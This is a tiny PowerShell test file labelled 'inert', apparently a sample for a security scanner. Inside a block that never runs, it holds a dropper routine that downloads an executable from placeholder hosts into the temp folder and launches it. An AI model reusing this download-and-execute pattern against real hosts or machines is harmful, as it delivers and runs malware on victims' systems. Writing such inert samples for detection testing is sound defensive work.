# INERT SEKISHO TEST
param([string]$name)
if ($false) {
$list = 'http://one.example.invalid/a/@http://two.example.invalid/b/'.Split('@')
$file = $env:temp + '\inert.exe'
foreach ($one in $list) { try { $web.DownloadFile($one, $file); if ((Get-Item $file).Length -ge 30000) { Start-Process $file; break; } } catch { } }
}
Write-Host "inert"
